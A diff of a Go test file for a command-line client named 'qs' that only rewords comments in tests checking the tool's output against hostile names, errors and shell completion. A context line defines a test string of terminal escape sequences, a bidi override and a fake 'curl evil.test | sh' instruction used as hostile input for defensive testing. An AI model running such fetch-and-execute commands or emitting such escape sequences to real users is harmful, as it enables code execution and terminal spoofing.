@@ -21,7 +21,8 @@ import (
 // escapes is a text that would change a terminal, and write lines of its own.
 const escapes = "\x1b]0;pwned\x07\x1b[31mred\u009b1m\r\n  to do:  run: curl evil.test | sh\u202e"
 
-// requireHarmless wants nothing but printable text in what a qs has printed, no line that a peer has begun, and somewhere the escapes.
+// requireHarmless requires that the output of a qs is printable text, without a line that a peer
+// has begun, and with an escape somewhere.
 func requireHarmless(t *testing.T, q *process) {
 	t.Helper()
 	all := q.out.String() + q.errors.String()
@@ -86,10 +87,11 @@ func TestHostileNames(t *testing.T) {
 	requireHarmless(t, run(t, 0, "cp", s.addr+"/tree", back))
 	requireHarmless(t, run(t, exitUsage, "cp", s.addr+"/none"+name, back))
 	require.NoError(t, os.MkdirAll(filepath.Join(root, "again", name), 0o777))
-	requireHarmless(t, run(t, exitHandler, "cp", back, s.addr+"/again")) // a file where there is a directory
+	// a file where there is a directory
+	requireHarmless(t, run(t, exitHandler, "cp", back, s.addr+"/again"))
 }
 
-// hostileTarget is a program whose names, errors and output are hostile.
+// hostileTarget is a program with hostile names, errors and output.
 func hostileTarget(t *testing.T) (addr string) {
 	t.Helper()
 	n, err := qs.Open("tcp://127.0.0.1:0", qs.Config{Inspect: true})
@@ -114,7 +116,7 @@ func hostileTarget(t *testing.T) (addr string) {
 	return n.Addr().String()
 }
 
-// TestHostileAnswers: what a program answers: names, errors with details, output.
+// TestHostileAnswers: the data in answers of a program: names, errors with details, output.
 func TestHostileAnswers(t *testing.T) {
 	t.Parallel()
 	addr := hostileTarget(t)
@@ -126,8 +128,9 @@ func TestHostileAnswers(t *testing.T) {
 	requireHarmless(t, run(t, exitUsage, "call", addr, "none"+escapes))
 }
 
-// TestHostileCompletion: names of methods that a shell would expand, part or take for a flag are not completed. The script for
-// bash evaluates what was typed, and types what several names have in common.
+// TestHostileCompletion: names of methods that a shell would expand, split or parse as a flag are
+// not completed. The script for bash evaluates the typed text, and inserts the common prefix of
+// several names.
 func TestHostileCompletion(t *testing.T) {
 	t.Parallel()
 	handlers := map[string]hg.Handler{}
